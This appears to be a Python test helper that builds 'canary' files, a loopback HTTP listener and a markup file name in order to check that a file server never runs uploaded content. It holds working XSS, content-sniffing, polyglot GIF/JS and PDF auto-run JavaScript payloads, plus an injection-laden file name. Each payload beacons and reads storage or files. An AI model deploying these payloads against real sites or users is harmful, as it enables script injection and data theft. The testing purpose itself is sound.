"""Files with a script that tells on itself, and the server that hears it, or serves files as a naive one would."""

import io
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Self

from PIL import Image
from PIL.PngImagePlugin import PngInfo

TITLE = "taken"
XHTML = "http://www.w3.org/1999/xhtml"


@dataclass(frozen=True)
class Canary:
    """A file; `lie` is the type that its sender declares, `truth` one under which a browser runs it, opened as `by`."""

    name: str
    content: bytes
    lie: str
    truth: str = ""
    by: str = ""


class Server:
    """An HTTP server on loopback that answers each path from a table and remembers what it was asked for."""

    def __init__(self) -> None:
        self.files: dict[str, tuple[str, bytes]] = {}
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                media_type, content = outer.files.get(self.path, ("text/plain", b""))
                self.send_response(200)
                self.send_header("Content-Type", media_type)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"

    @classmethod
    @contextmanager
    def running(cls) -> Iterator[Self]:
        server = cls()
        thread = threading.Thread(target=server._server.serve_forever, daemon=True)
        thread.start()
        try:
            yield server
        finally:
            server._server.shutdown()
            server._server.server_close()
            thread.join()


def script(listener: str, name: str) -> str:
    """Return a script that calls the listener, and tries what an attacker wants: the page, its storage, our API."""
    return (
        f"var c='{listener}/{name}';"
        "try{new Image().src=c}catch(e){}"
        "try{fetch(c,{mode:'no-cors'}).then(function(){postMessage(c)})}catch(e){}"  # a worker tells who started it
        f"try{{document.title='{TITLE}'}}catch(e){{}}"
        "try{localStorage.setItem('canary','1')}catch(e){}"
        "try{document.cookie='canary=1;path=/'}catch(e){}"
        "try{fetch('/files/').then(function(r){return r.text()})"
        ".then(function(t){fetch(c,{mode:'no-cors'})})}catch(e){}"
    )


def all_of(listener: str) -> list[Canary]:
    """Return the files that must never run."""

    def code(name: str) -> str:
        return script(listener, name)

    def page(name: str) -> str:
        return (
            f"<!doctype html><title>page</title><style>body{{background:url({listener}/{name}?css)}}</style>"
            f"<img src='{listener}/{name}?img'><svg onload=\"fetch('{listener}/{name}?svg')\"></svg>"
            f"<script>{code(name)}</script><form action='/upload/' method='post'><input name='a'></form>"
        )

    nested = page("mail.eml")
    return [
        Canary("page.html", page("page.html").encode(), "text/html", "text/html", "navigate"),
        Canary("framed.html", page("framed.html").encode(), "text/html", "text/html", "iframe"),
        Canary("wide.html", page("wide.html").encode("utf-16"), "text/html", "text/html", "navigate"),
        Canary("photo.png", page("photo.png").encode(), "image/png", "text/html", "navigate"),
        Canary("note.txt", page("note.txt").encode(), "text/html; charset=utf-8", "text/html", "navigate"),
        Canary("chunk.html", _png(page("chunk.html")), "text/html", "text/html", "navigate"),
        Canary("drawing.svg", _svg(code("drawing.svg")), "image/svg+xml", "image/svg+xml", "navigate"),
        Canary("object.svg", _svg(code("object.svg")), "image/svg+xml", "image/svg+xml", "object"),
        Canary("page.xhtml", _xhtml(code("page.xhtml")), "application/xhtml+xml", "application/xhtml+xml", "navigate"),
        Canary("data.xml", _xml(code("data.xml")), "text/xml", "text/xml", "navigate"),
        Canary("style.xsl", _xsl(code("style.xsl")), "text/xsl", "text/xml", "navigate"),
        Canary("sheet.xsl", _xsl(code("sheet.xsl")), "text/xsl", "text/xsl", "stylesheet"),
        Canary("style.css", f"body{{background:url({listener}/style.css)}}".encode(), "text/css", "text/css", "style"),
        Canary("plain.js", code("plain.js").encode(), "text/javascript", "text/javascript", "script"),
        Canary("worker.js", code("worker.js").encode(), "text/javascript", "text/javascript", "worker"),
        Canary("both.gif", _gif(code("both.gif")), "image/gif", "text/javascript", "script"),
        Canary("both.js", _gif(code("both.js")), "text/javascript", "text/javascript", "script"),
        Canary("data.json", f'["<script>{code("data.json")}</script>"]'.encode(), "text/html", "text/html", "iframe"),
        Canary("mail.eml", _mail("mail.eml", nested), "message/rfc822", "text/html", "navigate"),
        Canary("page.mht", _mail("page.mht", page("page.mht")), "multipart/related", "text/html", "navigate"),
        Canary("read.md", _markdown(listener, code("read.md")), "text/markdown"),
        Canary("cells.csv", _csv(page("cells.csv")), "text/csv"),
        Canary("names.zip", _zip(page("names.zip")), "application/zip"),
        Canary("form.pdf", _pdf(listener), "application/pdf"),  # Chromium's viewer runs none of it unasked
    ]  # fmt: skip


#: A name that is markup, for every place that shows names; a slash would cut it.
HOSTILE_NAME = f"\"'><svg onload=document.title='{TITLE}'><img src=x onerror=localStorage.setItem('canary',1)>.html"


def _markdown(listener: str, code: str) -> bytes:
    return (
        f"# <script>{code}</script>\n\n<script>{code}</script>\n\n![a]({listener}/read.md?img)\n\n![b][c]\n\n"
        f"[c]: {listener}/read.md?reference\n\n[d](javascript:{code.replace(' ', '%20').replace('(', '%28')})\n\n"
        f"<link rel=prefetch href={listener}/read.md?link>\n"
    ).encode()


def _csv(cell: str) -> bytes:
    quoted = cell.replace('"', '""')
    return f'a,"{quoted}"\n1,2\n"{quoted}",4\n'.encode()


def _zip(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, "x")
    return out.getvalue()


def _png(text: str) -> bytes:
    info, out = PngInfo(), io.BytesIO()
    info.add_text("Comment", text)
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _gif(code: str) -> bytes:
    return b"GIF89a=1;" + code.encode() + b"//;"


def _svg(code: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{code}]]></script></svg>'.encode()


def _xhtml(code: str) -> bytes:
    return f'<html xmlns="{XHTML}"><head><title>x</title><script><![CDATA[{code}]]></script></head></html>'.encode()


def _xml(code: str) -> bytes:
    return f'<?xml version="1.0"?><data><script xmlns="{XHTML}"><![CDATA[{code}]]></script></data>'.encode()


def _xsl(code: str) -> bytes:
    return (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?>'
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f"<html><script><![CDATA[{code}]]></script></html></xsl:template></xsl:stylesheet>"
    ).encode()


def _mail(name: str, page: str) -> bytes:
    head = f"From: a@example.org\r\nTo: b@example.org\r\nSubject: <script>{name}</script>\r\nMIME-Version: 1.0\r\n"
    part = f"Content-Type: text/html\r\nContent-Location: http://localhost/\r\n\r\n{page}\r\n"
    return f"{head}Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\n{part}--b--\r\n".encode()


def _pdf(listener: str) -> bytes:
    code = f"app.launchURL\\('{listener}/form.pdf'\\); this.submitForm\\('{listener}/form.pdf'\\);"
    action = f"<< /S /JavaScript /JS ({code}) >>"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /URI /URI ({listener}/form.pdf) >> >> >>",
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{each}\nendobj\n".encode()
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    tail = f"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{len(out)}\n%%EOF\n"
    return out + f"xref\n0 4\n0000000000 65535 f \n{table}".encode() + tail.encode()
